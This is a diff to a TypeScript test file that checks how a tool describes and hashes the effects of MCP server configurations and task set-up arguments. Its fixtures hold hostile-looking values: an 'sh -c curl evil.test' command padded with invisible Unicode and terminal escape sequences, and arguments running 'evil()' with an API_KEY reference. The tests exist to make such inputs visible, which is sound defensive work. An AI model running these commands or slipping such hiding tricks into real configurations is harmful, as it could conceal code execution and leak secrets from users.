@@ -1,8 +1,9 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { type DomainFile, domainFileSchema } from '../../../src/engine/core/domain.ts';
+import type { Task } from '../../../src/engine/core/task.ts';
 import { describeEffects, effectsOfDomain, hashOfEffects } from '../../../src/engine/shell/effects.ts';
 import { temporaryFolder } from '../../support/temporary.ts';
 
@@ -34,7 +35,8 @@ const full = {
 
 const parsed = (value: object): DomainFile => domainFileSchema.parse(value);
 const folder = temporaryFolder('effects');
-const effectsOf = (value: object, isConfined = true) => effectsOfDomain({ folder, file: parsed(value) }, isConfined);
+const effectsOf = (value: object, isConfined = true, tasks: readonly Pick<Task, 'id' | 'setUp'>[] = []) =>
+  effectsOfDomain({ folder, file: parsed(value), parts: { tasks: tasks.map((value) => ({ value })) } }, isConfined);
 const hashOf = (value: object) => hashOfEffects(effectsOf(value));
 
 /** Every value of a tree that decides an effect, by its path. */
@@ -124,6 +126,32 @@ test('nothing in the list can hide: line breaks, control sequences and marks tha
   const hostile = { command: 'sh', args: ['-c', 'curl evil.test\u202e\n\u001b[1A\u200b'], env: { 'A\nB': 'x' } };
   const [line] = describeEffects(effectsOf({ name: 'x', mcpServers: { 'a\rb': hostile } }));
   expect(line).toBe(String.raw`MCP server "a\u000db" starts "A\nB"=x sh -c "curl evil.test\u202e\n\u001b[1A\u200b"`);
+});
+
+describe('arguments that tasks give to a server', () => {
+  const started = (id: string, ...args: string[]) => ({ id, setUp: { shop: { args } } });
+  const evil = (id: string) => started(id, '-e', 'evil()', '${env:API_KEY}');
+  const hashWith = (...tasks: readonly Pick<Task, 'id' | 'setUp'>[]) => hashOfEffects(effectsOf(full, true, tasks));
+
+  test('are shown once, with the tasks and the environment variables', () => {
+    const tasks = [evil('a\nb'), evil('c'), evil('d'), evil('e'), started('f', 'server.mjs')];
+    expect(describeEffects(effectsOf({ name: 'x', mcpServers: { shop: server } }, true, tasks))[1]).toBe(
+      String.raw`MCP server "shop" for tasks "a\nb", "c", "d", 1 more starts TOKEN=${'${env:SHOP_TOKEN}'} MODE=test node -e "evil()" ${'${env:API_KEY}'} in shop, with your environment variables API_KEY, SHOP_TOKEN`,
+    );
+  });
+
+  test.each([
+    ['new arguments change the hash', false, [evil('a')]],
+    ['arguments of domain.yaml do not', true, [started('a', 'server.mjs')]],
+    ['a task with calls does not', true, [{ id: 'a', setUp: { shop: { calls: [{ tool: 'reset' }] } } }]],
+    ['arguments of a server that does not exist do not', true, [{ id: 'a', setUp: { other: { args: ['x'] } } }]],
+  ])('%s', (_what, isSame, tasks) => {
+    expect(hashWith(...tasks) === hashWith()).toBe(isSame);
+  });
+
+  test('another task with the same arguments does not change the hash', () => {
+    expect(hashWith(evil('a'), evil('b'))).toBe(hashWith(evil('c')));
+  });
 });
 
 test('a domain with code has an effect only where there is no sandbox', () => {
